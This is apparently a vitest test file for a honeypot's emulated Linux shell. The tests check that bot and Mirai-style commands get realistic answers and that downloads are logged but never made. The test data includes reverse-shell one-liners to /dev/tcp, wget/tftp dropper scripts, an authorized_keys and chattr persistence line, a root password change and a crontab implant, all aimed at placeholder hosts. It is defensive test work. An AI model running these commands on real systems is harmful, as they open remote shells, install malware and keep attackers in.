import { describe, expect, it } from 'vitest'
import { runCommand, testMachine } from './test-shell.ts'

const lines = (text: string): string[] => text.trimEnd().split('\n')

describe('what bots type', () => {
  it('answers the busybox probe of Mirai', async () => {
    const ran = await runCommand('/bin/busybox ECCHI; cat /proc/mounts; /bin/busybox LZRDX')
    expect(ran.err).toBe('ECCHI: applet not found\nLZRDX: applet not found\n')
    expect(ran.out).toContain(' / ext4 rw,relatime')
  })
  it('gives the header of a program to a loader that looks for the architecture', async () => {
    const ran = await runCommand(
      '/bin/busybox cat /bin/echo | head -c 20 | od -An -tx1; dd if=/proc/self/exe bs=22 count=1 2>/dev/null | od -An -tx1 -N 4',
    )
    expect(lines(ran.out).map((line) => line.trim())).toEqual([
      '7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00',
      '03 00 3e 00',
      '7f 45 4c 46',
    ])
  })
  it('builds a file of escaped bytes and hands it to the observer', async () => {
    const ran = await runCommand(
      String.raw`cd /tmp; >.d && cp .d .e; /bin/busybox echo -ne "\x7f\x45\x4c\x46" > .f; /bin/busybox echo -ne "\x00\xff" >> .f; od -An -tx1 .f`,
    )
    expect(ran.out).toBe(' 7f 45 4c 46 00 ff\n')
    expect(ran.files.get('/tmp/.f')).toEqual(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 255]))
  })
  it.each([
    ['nc -w 1 198.51.100.7 4444', 'nc tcp://198.51.100.7:4444'],
    ['nc -u -z 198.51.100.7 53', 'nc udp://198.51.100.7:53'],
    ['bash -c "echo > /dev/tcp/198.51.100.7/443"', 'bash tcp://198.51.100.7:443'],
    ['bash -i >& /dev/tcp/198.51.100.9/4445 0>&1', 'bash tcp://198.51.100.9:4445'],
    ['sh -i >& /dev/udp/198.51.100.9/53 0>&1', 'bash udp://198.51.100.9:53'],
    ['id &> /dev/tcp/198.51.100.9/80', 'bash tcp://198.51.100.9:80'],
    ['id &>> /dev/tcp/198.51.100.9/80', 'bash tcp://198.51.100.9:80'],
    ['id >& /dev/tcp/198.51.100.9/80', 'bash tcp://198.51.100.9:80'],
    ['ssh -p 2222 root@198.51.100.7', 'ssh ssh://root@198.51.100.7:2222'],
  ])('records %s as a connection, not as a download', async (line, connect) => {
    const ran = await runCommand(line)
    expect([ran.connects, ran.downloads]).toEqual([[connect], []])
    expect(ran.err).not.toContain('No such file')
  })

  it('records downloads and never makes them', async () => {
    const script =
      'cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/x.sh; curl -O http://198.51.100.7/x.sh; tftp -g -r x.sh 198.51.100.7; ftpget -v -u anonymous -p anonymous 198.51.100.7 x x; chmod 777 x.sh; sh x.sh; rm -rf x.sh'
    const ran = await runCommand(script)
    expect(ran.downloads).toEqual(['wget http://198.51.100.7/x.sh', 'curl http://198.51.100.7/x.sh'])
    expect(ran.err).toContain("chmod: cannot access 'x.sh': No such file or directory")
    expect(ran.err).toContain('sh: 0: cannot open x.sh: No such file')
    expect(ran.err).toContain('tftp: command not found')
    expect((await runCommand('busybox tftp -g -r a.sh 198.51.100.7; busybox ftpget 198.51.100.7 l r')).downloads).toEqual([
      'tftp tftp://198.51.100.7/a.sh',
      'ftpget ftp://198.51.100.7/r',
    ])
  })
  it('fails a download by name in the words of wget', async () => {
    const ran = await runCommand('wget -q http://bad.example/a; wget http://bad.example/a')
    expect(ran.err).toContain('Resolving bad.example (bad.example)... failed: Temporary failure in name resolution.')
    expect(ran.status).toBe(4)
  })
  it('counts its processors the same way everywhere', async () => {
    const ran = await runCommand(
      'cat /proc/cpuinfo | grep name | wc -l; nproc; lscpu | grep "^CPU(s):" | awk \'{print $2}\'; grep -c ^processor /proc/cpuinfo',
    )
    expect(new Set(lines(ran.out)).size).toBe(1)
    expect((await runCommand("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'")).out.trim()).not.toBe('')
  })
  it('says the same model and memory in every command', async () => {
    const machine = testMachine()
    const ran = await runCommand(
      "lscpu | grep Model; free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'; uname -s -v -n -r -m; grep MemTotal /proc/meminfo",
      { machine },
    )
    expect(ran.out).toContain(machine.persona.hardware.cpuModel)
    const [, memory = '', kernel = '', total = ''] = lines(ran.out).filter((line) => !line.includes('Model:'))
    expect(Number(memory.split(' ')[0])).toBe(Math.floor(Number(/\d+/.exec(total)?.[0]) / 1024))
    expect(kernel).toBe(`Linux ${machine.persona.hostname} ${machine.persona.os.kernel} ${machine.persona.os.kernelBuild} x86_64`)
  })
  it('decodes echo -e', async () => {
    expect((await runCommand(String.raw`echo -e "\x6F\x6B"`)).out).toBe('ok\n')
  })
  it('shows ls with its size and path', async () => {
    expect((await runCommand('ls -lh $(which ls)')).out).toMatch(
      /^-rwxr-xr-x 1 root root 1\d\dK [A-Z][a-z]{2} +\d+ +[\d:]+ \/usr\/bin\/ls\n$/,
    )
  })
  it('plants a key behind chattr and keeps it', async () => {
    const machine = testMachine()
    const ran = await runCommand(
      'cd ~ && chattr -ia .ssh; rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~; chattr +ia .ssh/authorized_keys; rm .ssh/authorized_keys; lsattr .ssh/authorized_keys',
      { machine },
    )
    expect(ran.err).toBe("rm: cannot remove '.ssh/authorized_keys': Operation not permitted\n")
    expect(ran.out).toBe('----ia--------e------- .ssh/authorized_keys\n')
    expect(machine.fs.read('/root/.ssh/authorized_keys', { uid: 0, gid: 0, groups: [] }).toString()).toBe('ssh-rsa AAAAB3 mdrfckr\n')
    expect(machine.fs.stat('/root/.ssh', { uid: 0, gid: 0, groups: [] }).mode).toBe(0o700)
  })
  it('changes the password and lets root read the new hash', async () => {
    const machine = testMachine()
    const ran = await runCommand('echo "root:zXc9pQ2w"|chpasswd|bash; grep ^root /etc/shadow | cut -c1-9', { machine })
    expect(ran).toMatchObject({ out: 'root:$y$j\n', err: '', status: 0 })
    expect(machine.accounts.opens('root', Buffer.from('zXc9pQ2w'))).toBe(true)
  })
  it('keeps a crontab', async () => {
    const machine = testMachine()
    expect(await runCommand('crontab -l', { machine })).toMatchObject({ err: 'no crontab for root\n', status: 1 })
    const ran = await runCommand('(crontab -l 2>/dev/null; echo "* * * * * /tmp/x") | crontab -; crontab -l', { machine })
    expect(ran.out).toBe('* * * * * /tmp/x\n')
    expect([...ran.files.keys()]).toEqual(['/var/spool/cron/crontabs/root'])
  })
  it('runs an uploaded script and refuses an uploaded binary of another machine', async () => {
    const machine = testMachine()
    const arm = Buffer.concat([Buffer.from('7f454c4601010100000000000000000002002800', 'hex'), Buffer.alloc(8000)])
    machine.fs.write('/tmp/arm', arm, { uid: 0, gid: 0, groups: [] }, { mode: 0o755 })
    const ran = await runCommand("printf '#!/bin/sh\\necho ran $1\\n' > /tmp/s; chmod +x /tmp/s; /tmp/s one; /tmp/arm", { machine })
    expect(ran).toMatchObject({
      out: 'ran one\n',
      err: 'bash: line 1: /tmp/arm: cannot execute binary file: Exec format error\n',
      status: 126,
    })
  })
  it('does not let one user read what only root may', async () => {
    const machine = testMachine()
    const user = machine.persona.users.find((one) => one.uid === 1000)?.name ?? ''
    const ran = await runCommand('cat /etc/shadow; ls /root; echo x > /etc/passwd; id -u', { machine, user })
    expect(ran.err).toBe(
      "cat: /etc/shadow: Permission denied\nls: cannot open directory '/root': Permission denied\nbash: line 1: /etc/passwd: Permission denied\n",
    )
    expect(ran.out).toBe('1000\n')
  })
})

describe('droppers', () => {
  it('are recorded whole and fail step by step as on a host behind a filter', async () => {
    const script =
      'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; busybox wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; ./bins.sh; busybox tftp -g -r t.sh 198.51.100.7; rm -rf bins.sh t.sh'
    const ran = await runCommand(script)
    expect(ran.commands).toEqual([script])
    expect(ran.downloads).toEqual(['wget http://198.51.100.7/bins.sh', 'tftp tftp://198.51.100.7/t.sh'])
    expect(ran.err).toBe(
      "Connecting to 198.51.100.7:80 (198.51.100.7:80)\nwget: can't connect to remote host (198.51.100.7): Connection timed out\nchmod: cannot access 'bins.sh': No such file or directory\nbash: line 1: ./bins.sh: No such file or directory\ntftp: timeout\n",
    )
  })
  it('get the header of a program by dd or cat', async () => {
    const ran = await runCommand('/bin/busybox MIRAI; (dd bs=52 count=1 if=/bin/echo || cat /bin/echo) | od -An -tx1 -N 4')
    expect(ran.err).toBe(
      'MIRAI: applet not found\n1+0 records in\n1+0 records out\n'.concat(/52 bytes copied.*\n$/.exec(ran.err)?.[0] ?? 'no count'),
    )
    expect(ran.out).toBe(' 7f 45 4c 46\n')
  })
})
